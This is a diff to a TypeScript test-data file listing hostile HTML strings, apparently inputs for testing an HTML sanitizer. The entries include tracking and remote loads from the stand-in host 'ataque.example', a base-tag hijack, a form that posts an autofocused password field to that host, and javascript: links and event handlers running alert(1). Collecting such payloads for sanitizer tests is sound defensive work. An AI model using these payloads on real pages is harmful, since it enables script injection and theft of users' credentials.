@@ -72,8 +72,8 @@ export const markupAttacks: readonly string[] = [
   '<fencedframe src="https://ataque.example/"></fencedframe>',
 
   // Requests to elsewhere, and changes to the page around.
-  '<img src="https://ataque.example/x.png" srcset="//ataque.example/2.png 2x">',
-  '<picture><source srcset="//ataque.example/x.png"><img src="/files/a"></picture>',
+  '<img src="http://ataque.example/x.png" srcset="//ataque.example/2.png 2x">',
+  '<picture><source srcset="//ataque.example/x.png"><img src="x"></picture>',
   '<video poster="//ataque.example/x.png" src="//ataque.example/x.mp4" autoplay></video>',
   '<p style="background:url(//ataque.example/x.png)">a</p>',
   '<p style="position:fixed;inset:0;z-index:9999">a</p>',
@@ -83,7 +83,7 @@ export const markupAttacks: readonly string[] = [
   '<base href="https://ataque.example/"><img src="x.png">',
   '<form id=f action="https://ataque.example/"><input name=password autofocus></form><button form=f>a</button>',
   '<input list=l><datalist id=l><option onclick=alert(1)>a</datalist>',
-  '<map name=m><area href="javascript:alert(1)" shape=default></map><img usemap=#m src="/files/a">',
+  '<map name=m><area href="javascript:alert(1)" shape=default></map><img usemap=#m src="x">',
   '<track src="//ataque.example/x.vtt"><portal src="//ataque.example/"></portal><bgsound src="//ataque.example/x">',
 
   // DOM clobbering.
